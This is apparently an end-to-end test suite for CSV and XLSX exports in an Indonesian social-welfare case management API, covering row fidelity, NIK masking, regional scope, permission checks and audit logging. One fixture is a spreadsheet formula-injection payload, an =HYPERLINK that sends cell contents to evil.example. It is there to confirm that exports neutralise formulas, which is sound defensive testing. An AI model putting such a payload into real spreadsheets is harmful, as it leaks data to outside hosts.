import { parse } from 'csv-parse/sync';
import { ValueType, Workbook } from 'exceljs';
import type { Response } from 'supertest';
import { todayIn } from '../src/common/dates';
import { seededOrganizationId } from '../src/common/ids';
import { Role } from '../src/identity/permissions';
import { asRole, ensurePartnerOrganization, TestPrincipal } from './helpers/auth';
import { createTestApp, TestApp } from './helpers/test-app';

/** A kelurahan in Kota Kediri (3571) and a desa in Kabupaten Nganjuk (3518). */
const KEDIRI_VILLAGE = '3571011010';
const NGANJUK_VILLAGE = '3518012001';
const TODAY = todayIn('Asia/Jakarta');
const YEAR = Number(TODAY.slice(0, 4));
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")';
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

type Item = Record<string, unknown>;
type Query = Record<string, string | number | boolean>;
/** Cells computed from a list item for the columns that are not a plain path into it. */
type Overrides = Record<string, (item: Item) => unknown>;

/** What the spreadsheet side must be given a list item's value, independently of the writer's code. */
function valueOf(item: Item, key: string, overrides: Overrides): unknown {
  const raw = overrides[key]
    ? overrides[key](item)
    : key.split('.').reduce<unknown>((v, part) => (v === null || v === undefined ? v : (v as Item)[part]), item);
  if (Array.isArray(raw)) {
    const parts = raw.filter((v) => v !== null && v !== undefined && v !== '').map(String);
    return parts.length === 0 ? null : parts.join('; ');
  }
  return raw === undefined || raw === '' ? null : raw;
}

/** OWASP: text starting with = + - @ tab or CR gets a leading apostrophe in CSV. */
function csvExpected(value: unknown): string {
  if (value === null) return '';
  if (typeof value === 'string') return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return String(value);
}

const ids = (items: Item[]) => items.map((i) => i.id);
/** The person list shows PPKS categories as objects; the export their codes. */
const PPKS: Overrides = { ppksCategories: (p) => (p.ppksCategories as { code: string }[]).map((c) => c.code) };

describe('exports (e2e)', () => {
  let t: TestApp;
  let kediri: TestPrincipal;
  let nganjuk: TestPrincipal;
  let officer: TestPrincipal;
  let admin: TestPrincipal;
  let partner: TestPrincipal;
  let analyst: TestPrincipal;
  let partnerId: string;
  let otherPartnerId: string;
  const people: Record<string, string> = {};

  beforeAll(async () => {
    t = await createTestApp();
    kediri = await asRole(t, Role.REGENCY_OPERATOR);
    nganjuk = await asRole(t, Role.REGENCY_OPERATOR, 'DINSOS-3518');
    officer = await asRole(t, Role.PROVINCE_OFFICER);
    admin = await asRole(t, Role.PROVINCE_ADMIN);
    partner = await asRole(t, Role.PARTNER);
    analyst = await asRole(t, Role.ANALYST);
    partnerId = partner.organizationId;
    otherPartnerId = await ensurePartnerOrganization(t, 'TEST-NGO-MALANG', '3573011001');
    await seed();
  });
  afterAll(async () => {
    await t.close();
  });

  async function person(who: TestPrincipal, key: string, body: Item): Promise<string> {
    const res = await t.http.post('/api/v1/persons').set(who.auth).send(body).expect(201);
    people[key] = res.body.id as string;
    return people[key];
  }

  async function consent(personId: string, recipientOrganizationId: string): Promise<void> {
    await t.http
      .post(`/api/v1/persons/${personId}/consents`)
      .set(kediri.auth)
      .send({
        purpose: 'REFERRAL',
        recipientOrganizationId,
        givenBy: 'SELF',
        givenOn: TODAY,
        evidenceReference: 'Form-77',
      })
      .expect(201);
  }

  /** A small world in two regencies: every exportable list has rows, some of them tricky. */
  async function seed(): Promise<void> {
    const siti = await person(kediri, 'siti', {
      fullName: 'Siti Aminah, S.Pd. "Bu Siti"',
      aliases: ['-Mbak Siti', 'Siti'],
      sex: 'F',
      birthDate: '1985-03-12',
      birthDatePrecision: 'DAY',
      nik: '3571015203850001',
      phone: '+62 812 5555 0001',
      domicile: { villageCode: KEDIRI_VILLAGE, address: 'Jl. Ngampel 5' },
      disabilities: ['MENTAL'],
      ppksCategories: ['PPKS-09'],
      guardian: { name: 'Sumarni', relation: 'IBU', phone: '+62 812 0000 0002', nik: '3571014101600001' },
    });
    const formula = await person(kediri, 'formula', {
      fullName: FORMULA_NAME,
      sex: 'M',
      domicile: { villageCode: KEDIRI_VILLAGE },
    });
    await person(kediri, 'ngampel', { fullName: 'Joko Ngámpél', sex: 'M', domicile: { villageCode: KEDIRI_VILLAGE } });
    const nganjukPerson = await person(nganjuk, 'nganjuk', {
      fullName: 'Warsini',
      sex: 'F',
      domicile: { villageCode: NGANJUK_VILLAGE },
    });

    // Cases: community cases at each regency office.
    for (const [who, personId] of [
      [kediri, siti],
      [kediri, formula],
      [nganjuk, nganjukPerson],
    ] as const) {
      await t.http.post('/api/v1/cases').set(who.auth).send({ personId, kind: 'COMMUNITY' }).expect(201);
    }

    // Referrals: Kediri to the partner, and to another partner that the first must not see.
    await consent(siti, partnerId);
    await consent(formula, otherPartnerId);
    await t.http
      .post('/api/v1/referrals')
      .set(kediri.auth)
      .send({ personId: siti, toOrganizationId: partnerId, reason: 'Butuh pendampingan usaha', priority: 'ROUTINE' })
      .expect(201);
    await t.http
      .post('/api/v1/referrals')
      .set(kediri.auth)
      .send({ personId: formula, toOrganizationId: otherPartnerId, reason: '=1+1 rujukan', priority: 'URGENT' })
      .expect(201);

    // A grant approved and disbursed into assets, and one only proposed in Nganjuk.
    await t.http
      .post('/api/v1/grant-budgets')
      .set(officer.auth)
      .send({ regencyCode: '3571', year: YEAR, amountIdr: 50_000_000 })
      .expect(201);
    const grant = await t.http
      .post('/api/v1/grants')
      .set(kediri.auth)
      .send({
        personId: siti,
        businessPlan: 'Keset kain perca, dijual ke koperasi',
        statedSkill: 'MENJAHIT',
        items: [
          { kind: 'SEWING_MACHINE', description: 'Mesin jahit Butterfly', quantity: 1, unitValueIdr: 2_500_000 },
          { kind: 'OVERLOCK_MACHINE', description: 'Mesin obras', quantity: 1, unitValueIdr: 2_000_000 },
        ],
      })
      .expect(201);
    const approved = await t.http
      .post(`/api/v1/grants/${grant.body.id}/approve`)
      .set(officer.auth)
      .send({})
      .expect(200);
    const sewing = (approved.body.items as { id: string; kind: string }[]).find((i) => i.kind === 'SEWING_MACHINE')!;
    await t.http
      .post(`/api/v1/grants/${grant.body.id}/disburse`)
      .set(kediri.auth)
      .send({
        date: TODAY,
        receiverName: 'Siti Aminah',
        witnessName: 'Lurah Ngampel',
        documentReference: 'BAST/01',
        serials: { [sewing.id]: ['BTF-2024-0001'] },
      })
      .expect(200);
    await t.http
      .post('/api/v1/grants')
      .set(nganjuk.auth)
      .send({
        personId: nganjukPerson,
        businessPlan: 'Warung kopi',
        statedSkill: 'MEMASAK',
        items: [{ kind: 'CASH', description: 'Modal usaha', quantity: 1, unitValueIdr: 1_000_000 }],
      })
      .expect(201);

    // Businesses, Bebas Pasung cases, a training and a service.
    await t.http
      .post('/api/v1/businesses')
      .set(kediri.auth)
      .send({
        personId: siti,
        grantId: grant.body.id,
        sector: 'KERAJINAN',
        name: 'Keset Bu Siti',
        villageCode: KEDIRI_VILLAGE,
        startDate: TODAY,
        workers: 1,
      })
      .expect(201);
    await t.http
      .post('/api/v1/businesses')
      .set(nganjuk.auth)
      .send({
        personId: nganjukPerson,
        sector: 'KULINER',
        name: 'Kopi Warsini',
        villageCode: NGANJUK_VILLAGE,
        startDate: TODAY,
        workers: 0,
      })
      .expect(201);
    for (const [who, personId, villageCode] of [
      [kediri, formula, KEDIRI_VILLAGE],
      [nganjuk, nganjukPerson, NGANJUK_VILLAGE],
    ] as const) {
      await t.http
        .post('/api/v1/pasung-cases')
        .set(who.auth)
        .send({
          personId,
          villageCode,
          reportedOn: TODAY,
          reportSource: 'NEIGHBOUR',
          shackledMonths: 24,
          restraintType: 'STOCKS',
          familyContact: { name: 'Sumarni', relation: 'IBU', phone: '+62 812 3456 7890' },
        })
        .expect(201);
    }
    await t.http
      .post('/api/v1/trainings')
      .set(kediri.auth)
      .send({
        skill: 'KESET_KAIN_PERCA',
        title: 'Keset kain perca',
        venue: { villageCode: KEDIRI_VILLAGE, place: 'Balai Kelurahan Bandar Lor' },
        startsOn: TODAY,
        endsOn: TODAY,
        weekdays: ['MON', 'TUE', 'WED', 'THU', 'FRI', 'SAT', 'SUN'],
        capacity: 20,
        facilitators: ['Bu Sri', 'Pak Joko'],
      })
      .expect(201);
    await t.http
      .post(`/api/v1/organizations/${partnerId}/services`)
      .set(partner.auth)
      .send({
        name: 'Pendampingan keluarga eks psikotik',
        description: '@Kunjungan rumah, "psikoedukasi", keluarga.',
        category: 'FAMILY_SUPPORT',
        serviceArea: ['3571'],
        contact: { name: 'Siti Aminah', phone: '+62 354 123456', email: 'layanan@binajiwa.or.id' },
      })
      .expect(201);
  }

  async function listAll(who: TestPrincipal, list: string, query: Query = {}): Promise<Item[]> {
    const items: Item[] = [];
    let cursor: string | null = null;
    do {
      const res: Response = await t.http
        .get(`/api/v1/${list}`)
        .query({ ...query, limit: 200, ...(cursor ? { cursor } : {}) })
        .set(who.auth)
        .expect(200);
      items.push(...(res.body.data as Item[]));
      cursor = res.body.page.nextCursor as string | null;
    } while (cursor);
    return items;
  }

  async function csvOf(who: TestPrincipal, list: string, query: Query = {}, headers: Record<string, string> = {}) {
    const res = await t.http
      .get(`/api/v1/exports/${list}.csv`)
      .query(query)
      .set({ ...who.auth, ...headers })
      .expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${list}-${TODAY}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text.charCodeAt(0)).toBe(0xfeff);
    const records = parse(res.text, { bom: true }) as string[][];
    const header = records[0];
    const rows = records.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
    return { header, rows, text: res.text };
  }

  async function xlsxOf(who: TestPrincipal, list: string, query: Query = {}) {
    const res = await t.http
      .get(`/api/v1/exports/${list}.xlsx`)
      .query(query)
      .set(who.auth)
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expect(res.headers['content-type']).toBe(XLSX_TYPE);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${list}-${TODAY}.xlsx"`);
    const workbook = new Workbook();
    await workbook.xlsx.load(res.body as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe(list);
    const cells = (r: number): unknown[] => {
      const values = sheet.getRow(r).values as unknown[];
      return values.slice(1);
    };
    const header = cells(1) as string[];
    const rows: Item[] = [];
    for (let r = 2; r <= sheet.rowCount; r++) {
      const values = cells(r);
      rows.push(
        Object.fromEntries(
          header.map((h, i) => {
            const v = values[i];
            // Date cells (type date) come back as Dates at UTC midnight: compare their day.
            return [h, v instanceof Date ? v.toISOString().slice(0, 10) : (v ?? null)];
          }),
        ),
      );
    }
    return { header, rows, sheet };
  }

  /** The export in both formats holds exactly the list's rows, in its order, cell for cell. */
  async function roundTrip(who: TestPrincipal, list: string, query: Query = {}, overrides: Overrides = {}) {
    const items = await listAll(who, list, query);
    const csv = await csvOf(who, list, query);
    const xlsx = await xlsxOf(who, list, query);
    expect(xlsx.header).toEqual(csv.header);
    expect(csv.header[0]).toBe('id');
    expect(csv.rows.map((r) => r.id)).toEqual(ids(items));
    expect(csv.rows).toEqual(
      items.map((item) => Object.fromEntries(csv.header.map((h) => [h, csvExpected(valueOf(item, h, overrides))]))),
    );
    expect(xlsx.rows).toEqual(
      items.map((item) => Object.fromEntries(xlsx.header.map((h) => [h, valueOf(item, h, overrides)]))),
    );
    return { items, csv, xlsx };
  }

  describe('round trip: each list in both formats equals the list endpoint', () => {
    it('persons (with filters)', async () => {
      const all = await roundTrip(kediri, 'persons', {}, PPKS);
      expect(ids(all.items)).toEqual(expect.arrayContaining([people.siti, people.formula, people.ngampel]));
      const filtered = await roundTrip(kediri, 'persons', { region: '3571', ppksCategory: 'PPKS-09' }, PPKS);
      expect(ids(filtered.items)).toEqual([people.siti]);
      const byName = await roundTrip(kediri, 'persons', { q: 'ngampel' }, PPKS);
      expect(ids(byName.items)).toEqual([people.ngampel]);
      const byNik = await roundTrip(kediri, 'persons', { nik: '3571015203850001' }, PPKS);
      expect(ids(byNik.items)).toEqual([people.siti]);
      // A name with a comma and quotes survives CSV quoting; the phone is neutralised like any +… text.
      const siti = all.csv.rows.find((r) => r.id === people.siti)!;
      expect(siti).toMatchObject({
        fullName: 'Siti Aminah, S.Pd. "Bu Siti"',
        aliases: "'-Mbak Siti; Siti",
        phone: "'+62 812 5555 0001",
        birthDate: '1985-03-12',
        disabilities: 'MENTAL',
        ppksCategories: 'PPKS-09',
      });
    });

    it('cases, referrals, grants, grant budgets and assets', async () => {
      expect((await roundTrip(kediri, 'cases')).items.length).toBe(2);
      expect((await roundTrip(officer, 'cases', { status: 'OPEN', kind: 'COMMUNITY' })).items.length).toBe(3);
      expect((await roundTrip(kediri, 'referrals', { direction: 'outgoing' })).items.length).toBe(2);
      expect((await roundTrip(kediri, 'referrals', { status: 'ACCEPTED' })).items.length).toBe(0);
      const items = {
        items: (g: Item) =>
          (g.items as { quantity: number; description: string }[]).map((i) => `${i.quantity} x ${i.description}`),
      };
      expect((await roundTrip(officer, 'grants', {}, items)).items.length).toBe(2);
      expect((await roundTrip(officer, 'grants', { status: 'DISBURSED', year: YEAR }, items)).items.length).toBe(1);
      expect((await roundTrip(officer, 'grant-budgets', { year: YEAR })).items.length).toBe(1);
      expect((await roundTrip(kediri, 'assets')).items.length).toBe(2);
      expect((await roundTrip(kediri, 'assets', { status: 'BROKEN' })).items.length).toBe(0);
    });

    it('businesses (also by their derived growth status), pasung cases, trainings, organisations, services', async () => {
      expect((await roundTrip(officer, 'businesses')).items.length).toBe(2);
      const fresh = await roundTrip(officer, 'businesses', { status: 'BELUM_CUKUP_DATA' });
      expect(fresh.items.length).toBe(2);
      expect((await roundTrip(officer, 'businesses', { status: 'BERKEMBANG' })).items.length).toBe(0);
      expect((await roundTrip(kediri, 'businesses', { personId: people.siti })).items.length).toBe(1);
      expect((await roundTrip(officer, 'pasung-cases', { region: '35' })).items.length).toBe(2);
      const sessions = {
        sessions: (tr: Item) =>
          (tr.sessions as { date: string; status: string }[])
            .filter((s) => s.status === 'SCHEDULED')
            .map((s) => s.date),
      };
      expect((await roundTrip(kediri, 'trainings', {}, sessions)).items.length).toBe(1);
      // The directory: many seeded organisations, so more than one page of the list.
      const organizations = await roundTrip(analyst, 'organizations', { includeInactive: true });
      expect(organizations.items.length).toBeGreaterThan(40);
      expect((await roundTrip(kediri, 'organizations', { type: 'NGO', q: 'yayasan' })).items.length).toBe(2);
      const services = await roundTrip(partner, 'services', { region: '3571', category: 'FAMILY_SUPPORT' });
      expect(services.items.length).toBe(1);
      expect(services.csv.rows[0].description).toBe(`'@Kunjungan rumah, "psikoedukasi", keluarga.`);
      expect(services.xlsx.rows[0].description).toBe('@Kunjungan rumah, "psikoedukasi", keluarga.');
    });

    it('walks every page: 1,100 more people in Nganjuk come out complete, in the list order', async () => {
      await t.sql(
        `INSERT INTO persons (full_name, name_key, sex, domicile_village_code, registered_by_organization_id)
         SELECT 'Warga ' || lpad(g::text, 4, '0'), 'warga ' || g, CASE WHEN g % 2 = 0 THEN 'F' ELSE 'M' END, $1, $2
           FROM generate_series(1, 1100) g`,
        [NGANJUK_VILLAGE, seededOrganizationId('DINSOS-3518')],
      );
      const { items } = await roundTrip(nganjuk, 'persons', {}, PPKS);
      expect(items.length).toBe(1101);
    });
  });

  describe('formula neutralisation', () => {
    it("writes a person's =HYPERLINK(...) name as text: CSV with a leading ', XLSX as a plain string cell", async () => {
      const csv = await csvOf(kediri, 'persons');
      expect(csv.rows.find((r) => r.id === people.formula)!.fullName).toBe(`'${FORMULA_NAME}`);
      // Quoted because of its commas and quotes; the apostrophe sits inside the quotes, first.
      expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik di sini"")"`);
      const xlsx = await xlsxOf(kediri, 'persons');
      const row = xlsx.rows.findIndex((r) => r.id === people.formula) + 2;
      const cell = xlsx.sheet.getRow(row).getCell(xlsx.header.indexOf('fullName') + 1);
      expect(cell.value).toBe(FORMULA_NAME);
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(ValueType.String);
      const referrals = await csvOf(kediri, 'referrals', { direction: 'outgoing' });
      expect(referrals.rows.map((r) => r.reason).sort()).toEqual(["'=1+1 rujukan", 'Butuh pendampingan usaha']);
      // Numbers stay numbers: a negative or a large amount is not "neutralised" in a number column.
      const grants = await xlsxOf(officer, 'grants', { status: 'DISBURSED' });
      expect(grants.rows[0].totalIdr).toBe(4_500_000);
      expect((await csvOf(officer, 'grants', { status: 'DISBURSED' })).rows[0].totalIdr).toBe('4500000');
    });
  });

  describe('masking and scope', () => {
    it('masks NIK without persons:pii, exactly as the list does, in both formats', async () => {
      const masked = await roundTrip(officer, 'persons', { region: '3571' }, PPKS);
      const siti = masked.csv.rows.find((r) => r.id === people.siti)!;
      expect(siti.nik).toBe('3571********0001');
      expect(siti['guardian.nik']).toBe('3571********0001');
      expect(masked.xlsx.rows.find((r) => r.id === people.siti)!.nik).toBe('3571********0001');
      const clear = await csvOf(kediri, 'persons', { region: '3571' });
      expect(clear.rows.find((r) => r.id === people.siti)!.nik).toBe('3571015203850001');
      const clearXlsx = await xlsxOf(kediri, 'persons', { region: '3571' });
      expect(clearXlsx.rows.find((r) => r.id === people.siti)!.nik).toBe('3571015203850001');
    });

    it("keeps a regency operator to its own regency's rows", async () => {
      const kediriPeople = await csvOf(kediri, 'persons');
      expect(kediriPeople.rows.map((r) => r.id)).not.toContain(people.nganjuk);
      const nganjukPeople = await csvOf(nganjuk, 'persons');
      expect(nganjukPeople.rows.map((r) => r.id)).toContain(people.nganjuk);
      expect(nganjukPeople.rows.map((r) => r.id)).not.toEqual(expect.arrayContaining([people.siti]));
      expect(nganjukPeople.rows.every((r) => r['domicile.villageCode'].startsWith('3518'))).toBe(true);
      for (const list of ['cases', 'grants', 'businesses', 'pasung-cases']) {
        const rows = (await csvOf(nganjuk, list)).rows;
        expect({ list, rows: rows.length }).toEqual({ list, rows: 1 });
        const personId = rows[0].personId ?? rows[0]['person.id'];
        expect({ list, personId }).toEqual({ list, personId: people.nganjuk });
      }
      // Even when asking for another regency, or another regency's person.
      expect((await csvOf(nganjuk, 'persons', { region: '3571' })).rows).toEqual([]);
      expect((await csvOf(nganjuk, 'cases', { personId: people.siti })).rows).toEqual([]);
    });

    it('gives a partner only its own referrals, with the person as a referral shows it', async () => {
      const { items, csv } = await roundTrip(partner, 'referrals');
      expect(items.length).toBe(1);
      expect(csv.rows[0]).toMatchObject({
        toOrganizationId: partnerId,
        'person.id': people.siti,
        'person.name': 'Siti Aminah, S.Pd. "Bu Siti"',
        'person.villageCode': KEDIRI_VILLAGE,
      });
      expect(csv.header.some((h) => /nik/i.test(h))).toBe(false);
    });

    it('answers 403 without the read permission of the list', async () => {
      for (const [who, list] of [
        [partner, 'persons'],
        [partner, 'cases'],
        [partner, 'grants'],
        [analyst, 'persons'],
        [analyst, 'referrals'],
        [analyst, 'pasung-cases'],
      ] as const) {
        for (const format of ['csv', 'xlsx']) {
          const res = await t.http.get(`/api/v1/exports/${list}.${format}`).set(who.auth);
          expect({ list, format, status: res.status }).toEqual({ list, format, status: 403 });
          expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
        }
      }
      await t.http.get('/api/v1/exports/persons.csv').expect(401);
    });
  });

  describe('audit', () => {
    const eventsOf = (requestId: string) =>
      t.sql<{
        action: string;
        resource_type: string;
        resource_id: string;
        person_id: string | null;
        purpose: string;
        changed_fields: string[];
        actor_id: string;
      }>(
        `SELECT action, resource_type, resource_id, person_id, purpose, changed_fields, actor_id
           FROM audit_events WHERE request_id = $1 ORDER BY seq`,
        [requestId],
      );

    it('records one EXPORT summary with the filter names and one EXPORT per person row, honest in the DSR trail', async () => {
      const csv = await csvOf(
        kediri,
        'persons',
        { region: '3571', q: 'siti' },
        { 'X-Request-Id': 'export-audit-persons', 'X-Purpose': 'laporan bulanan' },
      );
      expect(csv.rows.map((r) => r.id)).toEqual([people.siti]);
      const events = await eventsOf('export-audit-persons');
      expect(events[0]).toEqual({
        action: 'EXPORT',
        resource_type: 'export',
        resource_id: 'persons.csv',
        person_id: null,
        purpose: 'laporan bulanan',
        changed_fields: expect.any(Array),
        actor_id: kediri.userId,
      });
      expect([...events[0].changed_fields].sort()).toEqual(['q', 'region']);
      // Filter values (here part of a name) are never recorded.
      expect(JSON.stringify(events)).not.toContain('siti');
      expect(events.slice(1)).toEqual([
        {
          action: 'EXPORT',
          resource_type: 'person',
          resource_id: people.siti,
          person_id: people.siti,
          purpose: 'laporan bulanan',
          changed_fields: [],
          actor_id: kediri.userId,
        },
      ]);
      // The data subject's copy shows who exported their record.
      const dsr = await t.http.get(`/api/v1/persons/${people.siti}/data-export`).set(admin.auth).expect(200);
      expect(dsr.body.accessLog).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ action: 'EXPORT', actorName: kediri.username, purpose: 'laporan bulanan' }),
        ]),
      );
    });

    it('records a per-row event for every exported row about a person, across pages, and none for the directory', async () => {
      const xlsx = await xlsxOf(nganjuk, 'persons');
      const res = await t.http
        .get('/api/v1/exports/persons.csv')
        .set({ ...nganjuk.auth, 'X-Request-Id': 'export-all-nganjuk' });
      expect(res.status).toBe(200);
      const events = await eventsOf('export-all-nganjuk');
      expect(events[0]).toMatchObject({ resource_type: 'export', resource_id: 'persons.csv', changed_fields: [] });
      const perRow = events.slice(1);
      expect(perRow.every((e) => e.action === 'EXPORT' && e.purpose === 'DATA_EXPORT')).toBe(true);
      expect(perRow.map((e) => e.person_id)).toEqual(xlsx.rows.map((r) => r.id));

      await t.http
        .get('/api/v1/exports/grants.xlsx')
        .set({ ...officer.auth, 'X-Request-Id': 'export-grants' })
        .expect(200);
      const grants = await eventsOf('export-grants');
      expect(grants.map((e) => [e.resource_type, e.resource_id.endsWith('.xlsx')])).toEqual([
        ['export', true],
        ['grant', false],
        ['grant', false],
      ]);
      expect(
        grants
          .slice(1)
          .map((e) => e.person_id)
          .sort(),
      ).toEqual([people.siti, people.nganjuk].sort());

      await t.http
        .get('/api/v1/exports/organizations.csv')
        .query({ type: 'NGO' })
        .set({ ...analyst.auth, 'X-Request-Id': 'export-orgs' })
        .expect(200);
      expect(await eventsOf('export-orgs')).toEqual([
        expect.objectContaining({
          resource_type: 'export',
          resource_id: 'organizations.csv',
          changed_fields: ['type'],
        }),
      ]);
    });
  });

  describe('bad input', () => {
    it('answers an unknown list 404 and an unknown format 404, as problem+json with a registered code', async () => {
      const unknown = await t.http.get('/api/v1/exports/people.csv').set(kediri.auth).expect(404);
      expect(unknown.body.code).toBe('ROUTE_NOT_FOUND');
      await t.http.get('/api/v1/exports/persons.').set(kediri.auth).expect(404);
      for (const format of ['pdf', 'CSV', 'xls', 'csv.exe']) {
        const res = await t.http.get(`/api/v1/exports/persons.${format}`).set(kediri.auth);
        expect({ format, status: res.status, code: res.body.code }).toEqual({
          format,
          status: 404,
          code: 'EXPORT_FORMAT_UNSUPPORTED',
        });
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      }
    });

    it('refuses bad filters exactly like the list does, and records nothing', async () => {
      const cases: [string, Query, number, string][] = [
        ['persons', { region: 'abc' }, 400, 'VALIDATION_FAILED'],
        ['persons', { region: '3599' }, 422, 'UNKNOWN_REGION'],
        ['persons', { nik: '123' }, 400, 'PERSON_NIK_INVALID'],
        ['persons', { q: 'x' }, 400, 'VALIDATION_FAILED'],
        ['persons', { limit: 5 }, 400, 'VALIDATION_FAILED'],
        ['persons', { cursor: 'WyJ4Il0' }, 400, 'VALIDATION_FAILED'],
        ['persons', { sneaky: 1 }, 400, 'VALIDATION_FAILED'],
        ['cases', { personId: 'not-a-uuid' }, 400, 'VALIDATION_FAILED'],
        ['referrals', { status: 'LOST' }, 400, 'VALIDATION_FAILED'],
        ['grants', { year: 1999 }, 400, 'VALIDATION_FAILED'],
        ['businesses', { status: 'RICH' }, 400, 'VALIDATION_FAILED'],
        ['pasung-cases', { region: '3599' }, 422, 'UNKNOWN_REGION'],
        ['organizations', { includeInactive: 'maybe' }, 400, 'VALIDATION_FAILED'],
        ['services', { category: 'NOPE_NOT_THERE' }, 422, 'UNKNOWN_SERVICE_CATEGORY'],
      ];
      for (const [list, query, status, code] of cases) {
        for (const format of ['csv', 'xlsx']) {
          const requestId = `bad-${list}-${format}-${Object.keys(query)[0]}`;
          const res = await t.http
            .get(`/api/v1/exports/${list}.${format}`)
            .query(query)
            .set({ ...officer.auth, 'X-Request-Id': requestId });
          const listed = await t.http.get(`/api/v1/${list}`).query(query).set(officer.auth);
          expect({ list, format, query, status: res.status, code: res.body.code }).toEqual({
            list,
            format,
            query,
            status,
            code,
          });
          expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
          expect(res.headers['content-disposition']).toBeUndefined();
          // The list endpoint answers the same (paging parameters aside, which only the list takes).
          if (!('limit' in query) && !('cursor' in query)) expect([list, listed.status]).toEqual([list, status]);
          expect(await recorded(requestId)).toEqual([]);
        }
      }
    });
  });

  const recorded = (requestId: string) => t.sql(`SELECT id FROM audit_events WHERE request_id = $1`, [requestId]);
});
